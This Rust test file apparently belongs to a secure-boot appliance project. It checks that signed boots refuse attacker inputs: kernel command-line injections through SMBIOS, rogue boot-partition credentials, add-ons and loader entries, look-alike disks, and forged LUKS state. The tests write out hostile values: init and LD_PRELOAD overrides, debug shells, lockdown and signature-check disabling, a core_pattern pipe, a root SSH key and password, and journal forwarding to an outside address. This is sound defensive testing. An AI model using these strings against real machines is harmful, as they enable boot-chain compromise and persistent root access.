//! Whoever has the machine's disk, its SMBIOS strings and its firmware's variables, but no key of
//! ours, tries to have another root opened, code of their own run, or the state opened to them: by
//! every way on which something gets into a boot beside what is signed. docs/image.md lists them.

use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::arsenal::{ATTACKER, Attacker};
use crate::ceremony::seal_client;
use crate::kept::Kept;
use crate::machine::{Image, Machine, Partition, built};

const NOT_STARTED: &str =
    "strongroom: NOT STARTED: the kernel's command line is not the signed one; added is: ";
const NOT_SIGNED: &str = "strongroom: NOT STARTED: the boot partition holds something for the initrd that was not signed with it";
/// By systemd, some time before the appliance's console says it in words.
const CLOSED: &str = "Failed to start state.service";
const SERVES: &str = "strongroom: health      serving (";
const NOT_IN_TPM: &str = "is not as this image makes it: its key was not made in a TPM";
const OTHER_HEADER: &str = "is not as this image makes it: its LUKS2 header names other ciphers, keys or parts than are made here";
/// As a machine without keys does: in place of the machine's own state stands another one.
const WAITS: &str = "waiting for the key ceremony";

/// The kernel alone mounts this root, since `NVMe` and ext4 are built into it, and runs its
/// program: without any initrd.
const KERNEL_S_ROOT: &str = "rdinit=/attacker init=/attacker root=/dev/nvme0n1 rootfstype=ext4 rw";

/// The loader of the initrd runs a program that is not executable by its mode, and takes in a
/// library: here both come from the boot partition.
const LOADER: &str = "LD_PRELOAD=/.extra/global_credentials/attacker.cred rdinit=/lib64/ld-linux-x86-64.so.2 -- /.extra/global_credentials/attacker.cred";

/// What systemd, its generators and the kernel obey.
const WORDS: &str = "systemd.unit=emergency.target rd.systemd.unit=emergency.target systemd.debug_shell=console rd.systemd.debug_shell rd.break \
    systemd.run=/attacker systemd.wants=attacker.service systemd.mask=firewall.service systemd.setenv=LD_PRELOAD=/attacker emergency 1 \
    systemd.set_credential=tmpfiles.extra:x systemd.verity=no systemd.volatile=yes ip=dhcp sysctl.kernel.core_pattern=|/attacker \
    module.sig_enforce=0 lockdown=none lsm=capability ima_appraise=off modprobe.blacklist=dm_verity";

/// In a machine that was through a ceremony: the words that are appended to the command line by the
/// firmware's SMBIOS strings.
pub fn words_of_the_firmware_start_nothing(machine: &mut Machine) {
    let Some(attacker) = Attacker::new() else {
        return;
    };
    let disk = attacker.kernel_s_root();
    let words = attacker.words(&format!(
        "{KERNEL_S_ROOT} roothash={} {WORDS}",
        "12".repeat(32)
    ));
    let options = [words, disk].concat();
    machine.start_with(&options.iter().map(String::as_str).collect::<Vec<_>>());
    machine.wait_for(&[&format!("{NOT_STARTED}rdinit=/attacker init=/attacker")]);
    machine.wait_for(&["Attempted to kill init"]);
    refuted(machine);
    machine.stop();
}

/// Tries doors one after the other on a machine that was through a ceremony. Afterwards, without
/// them, the machine opens what was sealed before.
async fn nowhere(doors: impl FnOnce(&Image, &Attacker) -> Vec<Door>) {
    let Some(image) = built() else { return };
    let Some(client) = seal_client() else { return };
    let Some(attacker) = Attacker::new() else {
        return;
    };
    if !nix::unistd::geteuid().is_root() {
        crate::support::skip("the doors of the image", "root's rights");
        return;
    }
    let kept = Kept::of(&image, client).await;
    let mut machine = kept.machine();
    let mut open = Vec::new();
    for door in doors(&image, &attacker) {
        let begun = Instant::now();
        let boot_partition = machine.read(Partition::Boot);
        let end = door.attempt(&attacker, &kept, &mut machine).await;
        println!("{}: {:?} s, {end:?}", door.name, begun.elapsed().as_secs());
        if let Err(why) = end {
            open.push(format!("{}: {why}", door.name));
        }
        machine.stop();
        machine.write(Partition::Boot, &boot_partition);
    }
    assert!(open.is_empty(), "{}", open.join("\n\n"));
    machine.start();
    kept.still_opens(&machine).await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn words_of_smbios_start_nothing() {
    nowhere(|image, attacker| {
        let root = attacker.root(image);
        vec![
            Door::new(
                "SMBIOS: another root hash, its root on a second disk",
                &[NOT_STARTED],
            )
            .options(attacker.words(&format!("roothash={}", root.hash)))
            .options(root.disk),
            Door::new(
                "SMBIOS: a root that the kernel mounts by itself",
                &[NOT_STARTED],
            )
            .options(attacker.words(KERNEL_S_ROOT))
            .options(attacker.kernel_s_root()),
            Door::new(
                "SMBIOS: no initrd",
                &[NOT_STARTED, "VFS: Unable to mount root fs"],
            )
            .options(attacker.words(&format!("noinitrd {KERNEL_S_ROOT}")))
            .options(attacker.kernel_s_root()),
            Door::new(
                "SMBIOS: the initrd's loader and a credential of the boot partition",
                &[NOT_STARTED],
            )
            .options(attacker.words(LOADER))
            .file(
                &attacker.program("dynamic"),
                "loader/credentials/attacker.cred",
            ),
            Door::new("SMBIOS: words that systemd obeys", &[NOT_STARTED])
                .options(attacker.words(WORDS)),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn credentials_and_extensions_of_the_boot_partition_are_not_taken_in() {
    nowhere(|image, attacker| {
        let program = attacker.program("dynamic");
        vec![
            Door::new("a credential for all kernel images", &[NOT_SIGNED]).file(
                &attacker.unit(),
                "loader/credentials/systemd.extra-unit.attacker.service.cred",
            ),
            Door::new("a credential beside the kernel image", &[NOT_SIGNED]).file(
                &attacker.unit(),
                &beside(image, "systemd.extra-unit.attacker.service.cred"),
            ),
            Door::new("a system extension", &[NOT_SIGNED])
                .file(&program, &beside(image, "attacker.sysext.raw")),
            Door::new("a configuration extension", &[NOT_SIGNED])
                .file(&program, &beside(image, "attacker.confext.raw")),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn add_ons_start_nothing_though_they_are_signed() {
    nowhere(|image, attacker| {
        let add_on = attacker.add_on(true);
        vec![
            Door::new(
                "an add-on that is signed, for all kernel images",
                &[NOT_STARTED],
            )
            .file(&add_on, "loader/addons/attacker.addon.efi"),
            Door::new(
                "an add-on that is signed, beside the kernel image",
                &[NOT_STARTED],
            )
            .file(&add_on, &beside(image, "attacker.addon.efi")),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn entries_of_the_boot_loader_add_nothing() {
    nowhere(|image, attacker| {
        let entry = |lines: &str| {
            attacker.text(&format!(
                "title Attacker\nlinux /EFI/Linux/{}\n{lines}\n",
                kernel(image)
            ))
        };
        let chosen = attacker.text("default attacker.conf\ntimeout 0\n");
        vec![
            Door::new("a boot loader entry with words of its own", &[CLOSED])
                .options(attacker.kernel_s_root())
                .file(&chosen, "loader/loader.conf")
                .file(
                    &entry(&format!("options {KERNEL_S_ROOT}")),
                    "loader/entries/attacker.conf",
                ),
            Door::new(
                "a boot loader entry with an initrd of its own",
                &["Error registering initrd"],
            )
            .file(&chosen, "loader/loader.conf")
            .file(&attacker.initrd(), "attacker.img")
            .file(
                &entry("initrd /attacker.img"),
                "loader/entries/attacker.conf",
            ),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn a_look_alike_of_the_root_does_not_run() {
    nowhere(|image, attacker| {
        let root = attacker.root(image);
        vec![
            Door::new(
                "a second disk whose partitions have the identity of the root's and its hash tree's",
                &["is corrupted", "could not be verified", SERVES],
            )
            .options(attacker.look_alike(image, &root)),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn a_look_alike_of_the_state_on_another_disk_is_not_looked_at() {
    nowhere(|_, attacker| {
        vec![
            Door::new(
                "a second disk whose partition has the label of the state's",
                &[SERVES],
            )
            .options(attacker.state_look_alike()),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn a_state_of_the_attacker_s_making_is_not_opened() {
    nowhere(|_, _| {
        vec![
            Door::new(
                "in the state's place one whose key the attacker sealed to this machine's TPM",
                &[OTHER_HEADER],
            )
            .state(Attacker::sealed_state),
            Door::new(
                "the same, with a header that says what the real one's says",
                &[NOT_IN_TPM],
            )
            .state(Attacker::sealed_and_dressed_state),
            Door::new(
                "the state without encryption, by a word in its header",
                &[OTHER_HEADER],
            )
            .state(Attacker::open_state),
            Door::new("no header at all", &["it has no LUKS2 header"])
                .state(|_, _| vec![0; 1 << 20]),
        ]
    })
    .await;
}

#[tokio::test]
#[ignore = "needs make image, and minutes"]
async fn what_else_can_be_said_to_the_machine_is_passed_over() {
    nowhere(|image, attacker| vec![ignored(attacker, image)]).await;
}

fn kernel(image: &Image) -> String {
    let path = image.uki();
    path.file_name().unwrap().to_str().unwrap().to_owned()
}

/// Where the kernel's stub looks for files of its kernel image.
fn beside(image: &Image, name: &str) -> String {
    format!("EFI/Linux/{}.extra.d/{name}", kernel(image))
}

/// Another start of the state partition, made of what is there.
type Rewrite = fn(&Attacker, &[u8]) -> Vec<u8>;

/// One way in.
struct Door {
    name: &'static str,
    /// QEMU's options.
    options: Vec<String>,
    /// What is put on the boot partition: from here, to there.
    files: Vec<(PathBuf, String)>,
    /// A variable of systemd's in the firmware.
    variable: Option<(&'static str, String)>,
    /// What is written over the start of the state partition.
    state: Option<Rewrite>,
    /// How it must end: one of these on the console.
    ends: &'static [&'static str],
}

impl Door {
    fn new(name: &'static str, ends: &'static [&'static str]) -> Self {
        Self {
            name,
            options: Vec::new(),
            files: Vec::new(),
            variable: None,
            state: None,
            ends,
        }
    }

    fn options(mut self, options: Vec<String>) -> Self {
        self.options.extend(options);
        self
    }

    fn file(mut self, from: &Path, to: &str) -> Self {
        self.files.push((from.to_owned(), to.to_owned()));
        self
    }

    fn state(mut self, state: Rewrite) -> Self {
        self.state = Some(state);
        self
    }

    /// How it ended. The machine runs on.
    async fn attempt(
        &self,
        attacker: &Attacker,
        kept: &Kept,
        machine: &mut Machine,
    ) -> Result<&'static str, String> {
        let state = self.state.map(|change| {
            let state = machine.read(Partition::State);
            machine.write(Partition::State, &change(attacker, &state));
            state
        });
        let end = self.start(attacker, machine);
        if end == Ok(SERVES) {
            kept.still_opens(machine).await;
        }
        if let Some(state) = state {
            machine.stop();
            machine.write(Partition::State, &state);
        }
        end
    }

    fn start(&self, attacker: &Attacker, machine: &mut Machine) -> Result<&'static str, String> {
        if let Some((name, value)) = &self.variable {
            attacker.set_variable(&machine.firmware_variables(), name, value);
        }
        for (from, to) in &self.files {
            machine.put_on_boot_partition(from, to);
        }
        machine.start_with(&self.options.iter().map(String::as_str).collect::<Vec<_>>());
        let waits = [self.ends, &[ATTACKER, WAITS]].concat();
        let end = machine.try_wait_for(&waits)?;
        if [ATTACKER, WAITS].contains(&end) {
            return Err(format!("open:\n{}", machine.console()));
        }
        // Whatever comes later than the end that was waited for.
        std::thread::sleep(Duration::from_secs(10));
        if machine.console().contains(ATTACKER) {
            return Err(format!("open after all:\n{}", machine.console()));
        }
        Ok(end)
    }
}

/// All that is passed over, in one boot: the server serves as ever.
fn ignored(attacker: &Attacker, image: &Image) -> Door {
    let unit = fs::read_to_string(attacker.unit()).unwrap();
    let to_console = format!("w /dev/console - - - - {ATTACKER}\n");
    let credentials = [
        ("systemd.extra-unit.attacker.service", unit.as_str()),
        ("systemd.unit-dropin.firewall.service~attacker", &unit),
        (
            "systemd.unit-dropin.multi-user.target~attacker",
            "[Unit]\nWants=attacker.service\n",
        ),
        ("tmpfiles.extra", &to_console),
        ("fstab.extra", "/dev/nvme0n1 /etc ext4 defaults 0 0\n"),
        ("sysctl.extra", "kernel.core_pattern=|/attacker\n"),
        (
            "udev.rules.attacker",
            "RUN+=\"/usr/bin/systemctl start attacker.service\"\n",
        ),
        ("udev.conf.attacker", "udev_log=debug\n"),
        ("getty.ttys.serial", "ttyS0\n"),
        ("ssh.listen", "0.0.0.0:22\n"),
        ("ssh.authorized_keys.root", "ssh-ed25519 AAAA attacker\n"),
        ("passwd.plaintext-password.root", "attacker\n"),
        ("passwd.shell.root", "/attacker\n"),
        ("cryptsetup.passphrase", "attacker\n"),
        (
            "import.pull",
            "tar,class=sysext,runtime=yes:attacker:/attacker\n",
        ),
        ("journal.forward_to_socket", "192.0.2.1:1\n"),
        (
            "network.netdev.50-attacker",
            "[NetDev]\nName=attacker\nKind=dummy\n",
        ),
        (
            "network.link.50-attacker",
            "[Match]\nType=ether\n[Link]\nName=attacker\n",
        ),
        ("network.wireguard.attacker", "attacker\n"),
        ("hsm-pin", "attacker\n"),
        ("tls-key", "attacker\n"),
    ];
    let mut options = attacker.kernel_s_root();
    // QEMU has room for fewer files unless it is told.
    options.extend(["-global", "fw_cfg_io.x-file-slots=64"].map(str::to_owned));
    options.extend(attacker.smbios("io.systemd.boot.kernel-cmdline-extra", KERNEL_S_ROOT));
    for (name, value) in credentials {
        options.extend(attacker.smbios(
            &format!("io.systemd.credential.binary:{name}"),
            &STANDARD.encode(value),
        ));
        // The firmware's file names are shorter than some credentials'.
        if name.len() <= 26 {
            options.extend([
                "-fw_cfg".to_owned(),
                format!(
                    "name=opt/io.systemd.credentials/{name},file={}",
                    attacker.text(value).display()
                ),
            ]);
        }
    }
    let mut door = Door::new("what is passed over", &[SERVES])
        .options(options)
        .file(
            &attacker.text("timeout 0\neditor yes\nsecure-boot-enroll force\n"),
            "loader/loader.conf",
        )
        .file(&attacker.add_on(false), "loader/addons/attacker.addon.efi")
        .file(
            &attacker.add_on(false),
            &beside(image, "attacker.addon.efi"),
        )
        .file(
            &attacker.program("static"),
            "EFI/systemd/drivers/attackerx64.efi",
        );
    door.variable = Some(("SystemdOptions", WORDS.to_owned()));
    door
}

fn refuted(machine: &Machine) {
    let console = machine.console();
    assert!(!console.contains(ATTACKER), "{console}");
}
